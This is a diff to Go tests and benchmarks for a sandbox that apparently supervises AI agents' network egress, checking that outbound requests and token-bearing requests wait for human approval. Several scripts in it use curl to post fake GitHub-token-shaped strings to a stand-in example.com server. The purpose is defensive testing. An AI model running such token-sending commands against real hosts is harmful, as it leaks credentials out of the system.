@@ -19,8 +19,11 @@ import (
 	"testing"
 	"time"
 
+	"github.com/carboy/carboy/internal/bottles"
+	"github.com/carboy/carboy/internal/run/plan"
 	"github.com/carboy/carboy/internal/store"
 	"github.com/carboy/carboy/internal/supervise"
+	"github.com/carboy/carboy/internal/testenv"
 )
 
 // openWorld has a Client reach one server outside by the name example.com, whatever
@@ -29,15 +32,15 @@ func (w *world) outside(h http.Handler) {
 	w.t.Helper()
 	srv := httptest.NewTLSServer(h)
 	w.t.Cleanup(srv.Close)
-	o := w.c.opened
+	o := w.c.host.Opened
 	o.Roots = x509.NewCertPool()
 	o.Roots.AddCert(srv.Certificate())
 	o.Resolver = oneServer{}
-	o.dial = func(ctx context.Context, _ netip.AddrPort) (net.Conn, error) {
+	o.Dial = func(ctx context.Context, _ netip.AddrPort) (net.Conn, error) {
 		return (&net.Dialer{}).DialContext(ctx, "tcp", srv.Listener.Addr().String())
 	}
 	w.c.Close()
-	c, err := Open(context.Background(), o)
+	c, err := Open(context.Background(), reopen(o))
 	if err != nil {
 		w.t.Fatal(err)
 	}
@@ -64,7 +67,7 @@ type answerer struct {
 func (w *world) answering(say func(supervise.Proposal) supervise.Reply) *answerer {
 	w.t.Helper()
 	// As from another process: with a Client of its own.
-	c, err := Open(context.Background(), w.c.opened)
+	c, err := Open(context.Background(), reopen(w.c.host.Opened))
 	if err != nil {
 		w.t.Fatal(err)
 	}
@@ -166,8 +169,8 @@ curl -sS https://example.com/last || echo gone
 		return supervise.Reply{Verdict: supervise.Approved, Note: "go on \x1b[31mthen"}
 	})
 	var out strings.Builder
-	var events []Event
-	s, err := w.c.Start(t.Context(), StartOptions{Agent: "a", Dir: w.ws, Headless: true, Prompt: "go", Stdout: &out, Stderr: &out, OnEvent: func(e Event) { events = append(events, e) }})
+	var events []plan.Event
+	s, err := w.c.Start(t.Context(), bottles.StartOptions{Agent: "a", Dir: w.ws, Headless: true, Prompt: "go", Stdout: &out, Stderr: &out, OnEvent: func(e plan.Event) { events = append(events, e) }})
 	if err != nil {
 		t.Fatalf("%v\n%s", err, out.String())
 	}
@@ -220,18 +223,18 @@ exit 3
 	w.outside(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) { io.Copy(io.Discard, r.Body) }))
 	a := w.answering(func(p supervise.Proposal) supervise.Reply { return supervise.Reply{Verdict: supervise.Approved} })
 	var out strings.Builder
-	s, _ := w.c.Start(t.Context(), StartOptions{Agent: "a", Dir: w.ws, Headless: true, Prompt: "go", Stdout: &out, Stderr: &out})
+	s, _ := w.c.Start(t.Context(), bottles.StartOptions{Agent: "a", Dir: w.ws, Headless: true, Prompt: "go", Stdout: &out, Stderr: &out})
 	if s == nil || !s.Kept || a.kinds() != "egress-allow egress-token-allow" {
 		t.Fatalf("%+v %s\n%s", s, a.kinds(), out.String())
 	}
 	out.Reset()
-	if _, err := w.c.Resume(t.Context(), ResumeOptions{Slug: s.Slug, Headless: true, Prompt: "go", Keep: true, Stdout: &out, Stderr: &out}); err != nil || !strings.HasPrefix(out.String(), "200") {
+	if _, err := w.c.Resume(t.Context(), bottles.ResumeOptions{Slug: s.Slug, Headless: true, Prompt: "go", Keep: true, Stdout: &out, Stderr: &out}); err != nil || !strings.HasPrefix(out.String(), "200") {
 		t.Errorf("resumed: %v %s", err, out.String())
 	}
 	if a.kinds() != "egress-allow egress-token-allow" {
 		t.Errorf("asked again: %s", a.kinds())
 	}
-	if _, err := w.c.Start(t.Context(), StartOptions{Agent: "a", Dir: w.ws, Headless: true, Prompt: "go", Stdout: &out, Stderr: &out}); err == nil || a.kinds() != "egress-allow egress-token-allow egress-allow egress-token-allow" {
+	if _, err := w.c.Start(t.Context(), bottles.StartOptions{Agent: "a", Dir: w.ws, Headless: true, Prompt: "go", Stdout: &out, Stderr: &out}); err == nil || a.kinds() != "egress-allow egress-token-allow egress-allow egress-token-allow" {
 		t.Errorf("another bottle: %v %s", err, a.kinds())
 	}
 }
@@ -261,7 +264,7 @@ call egress-allow '{"host":"localhost","reason":"x"}'
 				return supervise.Reply{Verdict: x.verdict, Digest: x.digest}
 			})
 			var out strings.Builder
-			s, err := w.c.Start(t.Context(), StartOptions{Agent: "a", Dir: w.ws, Headless: true, Prompt: "go", Stdout: &out, Stderr: &out})
+			s, err := w.c.Start(t.Context(), bottles.StartOptions{Agent: "a", Dir: w.ws, Headless: true, Prompt: "go", Stdout: &out, Stderr: &out})
 			if !strings.Contains(out.String(), x.want) || !strings.Contains(out.String(), "refused\n") {
 				t.Errorf("%v\n%s", err, out.String())
 			}
@@ -275,7 +278,7 @@ call egress-allow '{"host":"localhost","reason":"x"}'
 	}
 }
 
-// BenchmarkApproval is how long it takes from a person's answer to the request that
+// BenchmarkApproval measures the time from a person's answer to the request that
 // waited for it being at the server.
 func BenchmarkApproval(b *testing.B) {
 	w := measuredWorld(b)
@@ -295,7 +298,7 @@ func BenchmarkApproval(b *testing.B) {
 	})
 	var out strings.Builder
 	script := fmt.Sprintf(`for i in $(seq %d); do curl -sS https://example.com/x -d "token=gh""p_$(printf '%%s%%020d' aB3dE5gH7jKLmN9x $i)" || exit 1; done`, b.N)
-	_, err := w.c.Run(b.Context(), RunOptions{Command: []string{"sh", "-c", script}, Workspace: w.ws, Mode: store.None, Allow: []string{"example.com"}, Supervise: true, Stdout: &out, Stderr: &out})
+	_, err := w.c.Run(b.Context(), plan.Options{Command: []string{"sh", "-c", script}, Workspace: w.ws, Mode: store.None, Allow: []string{"example.com"}, Supervise: true, Stdout: &out, Stderr: &out})
 	if err != nil || len(took) != b.N {
 		b.Fatalf("%d of %d: %v %s", len(took), b.N, err, out.String())
 	}
@@ -305,6 +308,7 @@ func BenchmarkApproval(b *testing.B) {
 }
 
 func measuredWorld(b *testing.B) *world {
+	testenv.Need(b, "curl", "apt-get install curl")
 	base := b.TempDir()
 	ws := filepath.Join(base, "ws")
 	for _, d := range []string{base, filepath.Dir(base), ws} {
@@ -317,7 +321,7 @@ func measuredWorld(b *testing.B) *world {
 	return &world{t: b, ws: ws, c: openClient(b, vars)}
 }
 
-// BenchmarkRestart is how long it takes, with twenty bottles whose requests wait, from
+// BenchmarkRestart measures the time, with twenty bottles whose requests wait, from
 // the beginning of a program to answer them, after another has ended, to the last
 // request being at the server.
 func BenchmarkRestart(b *testing.B) {
@@ -326,7 +330,7 @@ func BenchmarkRestart(b *testing.B) {
 	arrived := make(chan struct{}, bottles)
 	w.outside(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { arrived <- struct{}{} }))
 	open := func() (*Client, *supervise.Queue) {
-		c, err := Open(context.Background(), w.c.opened)
+		c, err := Open(context.Background(), reopen(w.c.host.Opened))
 		if err != nil {
 			b.Fatal(err)
 		}
@@ -350,7 +354,7 @@ func BenchmarkRestart(b *testing.B) {
 			wg.Go(func() {
 				script := fmt.Sprintf(`curl -sS https://example.com/x -d "token=gh""p_%s%020d"`, "aB3dE5gH7jKLmN9x", i)
 				var out strings.Builder
-				r, err := w.c.Run(context.Background(), RunOptions{Command: []string{"sh", "-c", script}, Workspace: w.ws, Mode: store.None, Allow: []string{"example.com"}, Supervise: true, Stdout: &out, Stderr: &out})
+				r, err := w.c.Run(context.Background(), plan.Options{Command: []string{"sh", "-c", script}, Workspace: w.ws, Mode: store.None, Allow: []string{"example.com"}, Supervise: true, Stdout: &out, Stderr: &out})
 				if err != nil || r.Exit.Code != 0 {
 					b.Errorf("%v %s", err, out.String())
 				}
@@ -391,7 +395,7 @@ func BenchmarkSupervised(b *testing.B) {
 	w := measuredWorld(b)
 	run := func(supervised bool) float64 {
 		began := time.Now()
-		if r, err := w.c.Run(b.Context(), RunOptions{Command: []string{"true"}, Workspace: w.ws, Mode: store.None, Allow: []string{"example.com"}, Supervise: supervised}); err != nil || r.Exit.Code != 0 {
+		if r, err := w.c.Run(b.Context(), plan.Options{Command: []string{"true"}, Workspace: w.ws, Mode: store.None, Allow: []string{"example.com"}, Supervise: supervised}); err != nil || r.Exit.Code != 0 {
 			b.Fatal(err)
 		}
 		return float64(time.Since(began))
